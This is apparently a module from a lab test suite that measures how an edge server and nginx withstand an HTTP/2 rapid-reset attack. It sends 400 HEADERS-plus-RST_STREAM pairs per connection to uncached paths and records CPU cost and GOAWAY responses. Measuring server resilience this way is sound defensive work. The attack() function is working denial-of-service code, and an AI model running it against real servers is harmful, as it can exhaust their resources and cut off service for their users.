"""HTTP/2 requests that are reset at once, for paths that are not stored."""

import time

from . import http2
from .common import ATTACKER, Figure, Site

POINT, TITLE = "15", "400 HEADERS and RST_STREAM per connection, paths not stored"
PAIRS, CONNECTIONS, GROUP = 400, 15, 80
SITE = Site("keyless.attack.test", "keyless")


def run(lab):
    figures = []
    with lab.pair([SITE]) as (edge, _):
        figures += both(lab, edge, "edge")
    if lab.nginx_binary:
        with lab.nginx(SITE.name) as nginx:
            figures += both(lab, nginx, "nginx")
    return figures


def both(lab, server, what):
    lab.fetch(server.port, SITE.name)
    figures = []
    for how, split in (("in one write", False), ("RST_STREAM in another read", True)):
        cpu, origin = server.cpu(), lab.origin.cpu()
        outcomes = [attack(lab, server.port, number, split) for number in range(CONNECTIONS)]
        time.sleep(0.5)
        cpu, origin = server.cpu() - cpu, lab.origin.cpu() - origin
        figures += [
            Figure(f"{what}, {how}: CPU per connection", round(cpu * 1000 / CONNECTIONS, 1), "ms"),
            Figure(f"{what}, {how}: CPU of the origin per connection", round(origin * 1000 / CONNECTIONS, 1), "ms"),
            Figure(f"{what}, {how}: connections ended by the server of {CONNECTIONS}", sum(outcomes)),
        ]
    return figures


def attack(lab, port, number, split):
    """One connection. Returns whether the server ended it, or said that it will (GOAWAY)."""
    frames = http2.Frames()
    try:
        with lab.connect(port, SITE.name, ATTACKER, alpn=("h2",)) as client:
            client.sendall(http2.PREFACE + http2.settings() + http2.SETTINGS_ACK)
            streams = [2 * at + 1 for at in range(PAIRS)]
            groups = [streams[at:at + GROUP] for at in range(0, PAIRS, GROUP)] if split else [streams]
            for turn, group in enumerate(groups):
                heads = [http2.request(stream, SITE.name, f"/1024?{number}.{stream}") for stream in group]
                resets = [http2.reset(stream) for stream in group]
                if split:
                    client.sendall(b"".join(heads) + http2.ping(2 * turn + 1))
                    until_pong(client, frames, 2 * turn + 1)
                    client.sendall(b"".join(resets) + http2.ping(2 * turn + 2))
                else:
                    client.sendall(b"".join(a + b for a, b in zip(heads, resets)) + http2.ping(2 * turn + 2))
                until_pong(client, frames, 2 * turn + 2)
    except OSError:
        return True
    return frames.goaway is not None


def until_pong(client, frames, number):
    while number not in frames.pongs:
        data = client.recv(65536)
        if not data:
            raise ConnectionError("closed")
        frames.feed(data)
